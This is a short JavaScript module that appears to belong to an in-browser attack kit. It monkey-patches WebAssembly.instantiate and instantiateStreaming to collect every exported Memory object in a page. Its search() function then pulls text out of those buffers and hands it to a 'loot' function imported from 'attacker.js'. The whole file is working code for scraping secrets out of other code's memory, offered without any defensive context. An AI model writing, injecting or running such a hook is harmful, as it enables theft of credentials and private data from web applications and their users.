// Keeps the memory of every WebAssembly module that starts in this page, and searches it later.
import { loot } from "./attacker.js";
import { searchBytes } from "./reads.js";

const memories = [];

for (const name of ["instantiate", "instantiateStreaming"]) {
  const native = WebAssembly[name];
  WebAssembly[name] = async (...args) => {
    const made = await native(...args);
    for (const member of Object.values((made.instance ?? made).exports)) {
      if (member instanceof WebAssembly.Memory) memories.push(member);
    }
    return made;
  };
}

/** Takes every run of letters that is in them. */
export function search(attack) {
  for (const { buffer } of memories) {
    searchBytes(new Uint8Array(buffer), (text) => loot(attack, text));
  }
  return memories.length;
}
